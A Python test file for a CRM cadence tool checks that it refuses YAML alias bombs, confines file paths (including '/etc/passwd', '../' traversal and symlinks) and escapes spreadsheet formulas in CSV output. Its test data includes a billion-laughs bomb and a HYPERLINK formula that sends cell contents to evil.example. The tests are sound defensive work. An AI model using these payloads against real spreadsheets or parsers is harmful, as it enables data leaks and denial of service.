"""Inputs cannot exhaust or escape (issue 17): YAML alias bombs, local CRM paths outside the
config's folder, spreadsheet formulas in the CSV files the tool writes.

The alias-bomb tests run the CLI in a subprocess under an address-space and CPU limit
(`resource.setrlimit` in `preexec_fn`): a run that tried to expand the bomb is killed by the
limit and fails the exit-code assertion. No wall-clock time is asserted."""

from __future__ import annotations

import csv
import resource
import subprocess
import sys
import tempfile
from datetime import datetime, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

ROOT = Path(__file__).resolve().parent.parent

# 9 levels of 9 aliases: 9**9 (387 million) strings once expanded, 390 bytes of text.
BOMB = "".join(
    f"{name}: &{name} [{', '.join([f'*{prev}'] * 9) if prev else ', '.join(['lol'] * 9)}]\n"
    for prev, name in zip(["", "a", "b", "c", "d", "e", "f", "g", "h"], "abcdefghi", strict=True)
)

MEMORY_LIMIT = 768 * 1024 * 1024  # a normal `cadence check` runs in under 300 MB of address space
CPU_SECONDS = 30


def _limited() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))


def cli_limited(*args: str | Path, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "connector.cli", *map(str, args)], cwd=cwd, preexec_fn=_limited,
                          capture_output=True, text=True, timeout=300)


def test_the_bomb_is_small() -> None:
    assert len(BOMB.encode()) < 450 and BOMB.count("*") == 72


@pytest.mark.parametrize("where", ["top", "cadences"])
def test_a_yaml_alias_bomb_in_a_config_is_refused_at_its_line(tmp_path: Path, where: str) -> None:
    """`cadence check` on a billion-laughs config exits 2 with a located line, within the
    memory and CPU limit (it used over 4 GB and 120 s before)."""
    text = BOMB if where == "top" else BOMB.replace("i: &i", "cadences: &i")
    config = tmp_path / "bomb.yaml"
    config.write_text(text, encoding="utf-8")
    result = cli_limited("check", config)
    assert result.returncode == 2, (result.returncode, result.stderr[-2000:])
    assert "Traceback" not in result.stderr
    assert f"{config}:6:8: the alias *e takes this file past 100,000 values" in result.stderr


def test_a_yaml_alias_bomb_in_a_fleet_file_is_refused_at_its_line(tmp_path: Path) -> None:
    fleet = tmp_path / "fleet.yaml"
    fleet.write_text("state: postgresql://nobody@127.0.0.1:1/x\n" + BOMB.replace("i: &i", "accounts: &i"),
                     encoding="utf-8")
    result = cli_limited("fleet", "status", fleet)
    assert result.returncode == 2, (result.returncode, result.stderr[-2000:])
    assert "Traceback" not in result.stderr
    assert f"{fleet}:7:8: the alias *e takes this file past 100,000 values" in result.stderr


def test_ordinary_aliases_and_merge_keys_still_load(tmp_path: Path) -> None:
    from connector.configfile import load_config

    config = tmp_path / "cadence.yaml"
    first = ("  - id: c0\n    name: C0\n    steps: &steps\n"
             "      - &call {id: call, channel: call, window: '09:00-17:00', subject: Hi}\n"
             "      - {<<: *call, id: again, wait: 2 days}\n")
    others = "".join(f"  - id: c{i}\n    name: C{i}\n    steps: *steps\n" for i in range(1, 20))
    config.write_text("cadences:\n" + first + others, encoding="utf-8")
    loaded = load_config(config)
    assert len(loaded.config.cadences) == 20


def test_the_bound_counts_expanded_values_not_text() -> None:
    from connector.yamlbounds import alias_bomb

    assert alias_bomb(BOMB) is not None
    assert alias_bomb(BOMB, limit=10**10) is None
    assert alias_bomb("a: &a [1, 2, 3]\nb: [*a, *a]\n", limit=8) is None
    found = alias_bomb("a: &a [1, 2, 3]\nb: [*a, *a, *a]\n", limit=8)
    assert found is not None and (found.line, found.col, found.alias) == (2, 13, "a")
    assert alias_bomb("a: [unclosed\n") is None  # the loader locates syntax errors itself


# ----------------------------------------------------------------- local CRM paths confined

CADENCE = ("calendar: {timezone: America/New_York, country: US}\n"
           "cadences:\n  - id: a\n    name: A\n    enroll_when: {all: [{property: lifecycle_stage, equals: lead}]}\n"
           "    steps:\n      - {id: call, channel: call, subject: 'Call {{contact.first_name}}'}\n")
CONTACTS = "id,first_name,phone,timezone,country,lifecycle_stage\nc1,Ada,+1 555 0100,America/New_York,US,lead\n"
MONDAY = "2026-03-02T14:00:00Z"


def cli(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "connector.cli", *map(str, args)], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)


def workspace(tmp_path: Path, crm: str) -> Path:
    folder = tmp_path / "cfg"
    folder.mkdir()
    (folder / "contacts.csv").write_text(CONTACTS, encoding="utf-8")
    config = folder / "cadence.yaml"
    config.write_text(f"crm:\n  type: local\n{crm}" + CADENCE, encoding="utf-8")
    return config


def test_a_contacts_file_outside_the_config_folder_is_refused_and_never_shown(tmp_path: Path) -> None:
    """`contacts: /etc/passwd` passed `check` and `plan` printed its first line; now both exit 2 at the line."""
    config = workspace(tmp_path, "  contacts: /etc/passwd\n")
    for command in ("check", "plan"):
        result = cli(command, config, "--now", MONDAY) if command == "plan" else cli(command, config)
        assert result.returncode == 2, result.stderr
        assert f"{config}:3:13: crm.contacts: '/etc/passwd' is outside the config's folder" in result.stderr
        assert "root:" not in result.stdout + result.stderr and "Traceback" not in result.stderr


def test_a_tasks_file_outside_the_config_folder_is_never_written(tmp_path: Path) -> None:
    """`tasks: ../../anything` was overwritten by a sync; now the sync refuses it and touches nothing."""
    victim = tmp_path / "anything"
    victim.write_text("precious\n", encoding="utf-8")
    config = workspace(tmp_path, "  tasks: ../anything\n")
    result = cli("sync", config, "--now", MONDAY)
    assert result.returncode == 2, result.stderr
    assert f"{config}:3:10: crm.tasks: '../anything' is outside the config's folder" in result.stderr
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert not (config.parent / "cadence-state.sqlite").exists()


def test_a_symlink_leading_out_of_the_folder_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.csv"
    secret.write_text("id,first_name\nsecret-row,Secret\n", encoding="utf-8")
    config = workspace(tmp_path, "  contacts: people.csv\n")
    (config.parent / "people.csv").symlink_to(secret)
    result = cli("check", config)
    assert result.returncode == 2 and "crm.contacts: 'people.csv' is outside the config's folder" in result.stderr
    # and the default file names too, when the CRM is built from settings that bypass the config loader
    from connector.crm.base import ConfigError
    from connector.crm.local import LocalCRM

    (config.parent / "tasks.csv").symlink_to(tmp_path / "elsewhere.csv")
    with pytest.raises(ConfigError, match=r"crm\.tasks: 'tasks\.csv' leads outside the config's folder"):
        LocalCRM({}, base_dir=config.parent)


def test_files_inside_the_folder_and_the_explicit_option_still_work(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "contacts.csv").write_text(CONTACTS, encoding="utf-8")
    config = workspace(tmp_path, f"  contacts: {shared / 'contacts.csv'}\n  allow_outside_folder: true\n")
    assert cli("check", config).returncode == 0
    (tmp_path / "x").mkdir()
    inside = workspace(tmp_path / "x", "  contacts: ./sub/../contacts.csv\n  tasks: out/tasks.csv\n")
    (inside.parent / "sub").mkdir()
    (inside.parent / "out").mkdir()
    result = cli("sync", inside, "--now", MONDAY)
    assert result.returncode == 0, result.stderr
    assert (inside.parent / "out" / "tasks.csv").exists()


# ------------------------------------------------------------------ spreadsheet formulas

EVIL_FIRST = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_LAST = "@SUM(1+1)"
PHONE = "+1 212 555 0100"


def raw_cells(path: Path) -> list[list[str]]:
    """The cells of a CSV file as a spreadsheet gets them (no unescaping)."""
    with open(path, newline="", encoding="utf-8-sig") as f:
        return list(csv.reader(f))


def assert_no_formula(path: Path) -> None:
    from connector.crm.local.csvio import FORMULA_STARTS

    bad = [cell for row in raw_cells(path) for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not bad, f"{path.name}: cells a spreadsheet evaluates: {bad}"


def test_formula_cells_are_escaped_in_tasks_csv_and_read_back_as_written(tmp_path: Path) -> None:
    """A contact named `=HYPERLINK(...)` was written verbatim into tasks.csv; now every cell that
    would begin a formula starts with a quote, and the local CRM reads the value back unquoted."""
    from connector.crm.local import csvio

    folder = tmp_path / "cfg"
    folder.mkdir()
    header = "id,first_name,last_name,phone,timezone,country,lifecycle_stage\n"
    (folder / "contacts.csv").write_text(
        header + f'c1,"{EVIL_FIRST.replace(chr(34), chr(34) * 2)}",{EVIL_LAST},{PHONE},America/New_York,US,lead\n',
        encoding="utf-8")
    config = folder / "cadence.yaml"
    config.write_text("crm: {type: local}\n" + CADENCE.replace("{id: call, channel: call, subject: 'Call {{contact.first_name}}'}",
                      "{id: call, channel: call, subject: '{{contact.first_name}}'}\n"
                      "      - {id: again, channel: call, wait: 1 day, subject: 'Again'}"), encoding="utf-8")
    assert cli("sync", config, "--now", MONDAY).returncode == 0
    tasks = folder / "tasks.csv"
    assert_no_formula(tasks)
    [row] = [dict(zip(raw_cells(tasks)[0], r, strict=True)) for r in raw_cells(tasks)[1:]]
    assert row["contact_name"] == f"'{EVIL_FIRST} {EVIL_LAST}"
    assert row["subject"] == f"'{EVIL_FIRST}"
    assert row["phone"] == f"'{PHONE}"  # a phone number beginning with + is shown as text too (the safe reading)

    # the recruiter marks it done with a note that begins with '-', as a spreadsheet saves it
    cells = raw_cells(tasks)
    position = {name: i for i, name in enumerate(cells[0])}
    cells[1][position["status"]] = "done"
    cells[1][position["note"]] = "-5 min call, no answer"
    with open(tasks, "w", newline="", encoding="utf-8-sig") as f:
        csv.writer(f, lineterminator="\n").writerows(cells)
    for now in ("2026-03-03T14:00:00Z", "2026-03-03T14:05:00Z"):  # the next step, then an idle run
        result = cli("sync", config, "--now", now)
        assert result.returncode == 0, result.stderr
    assert_no_formula(tasks)
    _header, records, errors = csvio.read_table(tasks)
    rows = [csvio.as_dict(_header, r.values) for r in records]
    assert not errors and len(rows) == 2
    assert {r["contact_name"] for r in rows} == {f"{EVIL_FIRST} {EVIL_LAST}"}  # read back as written, once escaped
    assert {r["phone"] for r in rows} == {PHONE}
    assert [r["note"] for r in rows if r["status"] == "done"] == ["-5 min call, no answer"]
    raw = {r[position["status"]]: r for r in raw_cells(tasks)[1:]}
    assert raw["done"][position["note"]] == "'-5 min call, no answer"
    assert raw["open"][position["contact_name"]] == f"'{EVIL_FIRST} {EVIL_LAST}"  # never quoted twice


def test_a_referred_formula_is_escaped_in_contacts_csv(tmp_path: Path) -> None:
    from support.conformance import make_task
    from support.local import LocalRecruiter, seed_local

    from connector.crm.base import ReadContext
    from connector.crm.local import LocalCRM

    crm = LocalCRM({}, base_dir=seed_local(tmp_path))
    task = make_task("c1")
    crm.create_tasks([task])
    LocalRecruiter(tmp_path).complete_task(task.key, outcome="referral", referred_first_name="=EVIL()",
                                           referred_last_name="-Smith", referred_phone="+44 20 7946 0001")
    context = ReadContext(since=None, started_at=datetime(2026, 3, 3, 14, tzinfo=timezone.utc))
    list(crm.read_contacts(context))  # appends the referred person to contacts.csv
    added = raw_cells(tmp_path / "contacts.csv")[-1]  # the rows already there keep their bytes
    assert added[1:3] == ["'=EVIL()", "'-Smith"] and "'+44 20 7946 0001" in added, added
    contacts = [c for b in crm.read_contacts(context) for c in b.contacts]
    referred = next(c for c in contacts if c.referred_by == "c1")
    assert (referred.first_name, referred.last_name) == ("=EVIL()", "-Smith")


CELL = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\r\x00"), max_size=12)


@given(st.lists(st.tuples(CELL, CELL), min_size=1, max_size=5))
@settings(max_examples=200)
def test_any_cell_round_trips_and_none_begins_a_formula(rows: list[tuple[str, str]]) -> None:
    """Whatever a cell holds (quotes before a formula character included), what the local CRM
    writes reads back the same, and no written cell begins a formula."""
    from connector.crm.local import csvio, csvtable

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        csvio.atomic_write_rows(path, ["key", "value"], [{"key": f"k{i}{a}", "value": b} for i, (a, b) in enumerate(rows)],
                                bom=True)
        assert_no_formula(path)
        table = csvtable.read_table_whole(path, "t.csv", "key")
        assert [r.values for r in table.records] == [[f"k{i}{a}", b] for i, (a, b) in enumerate(rows)]
        assert csvio.from_spreadsheet(str(csvio.spreadsheet_safe("''=x"))) == "''=x"
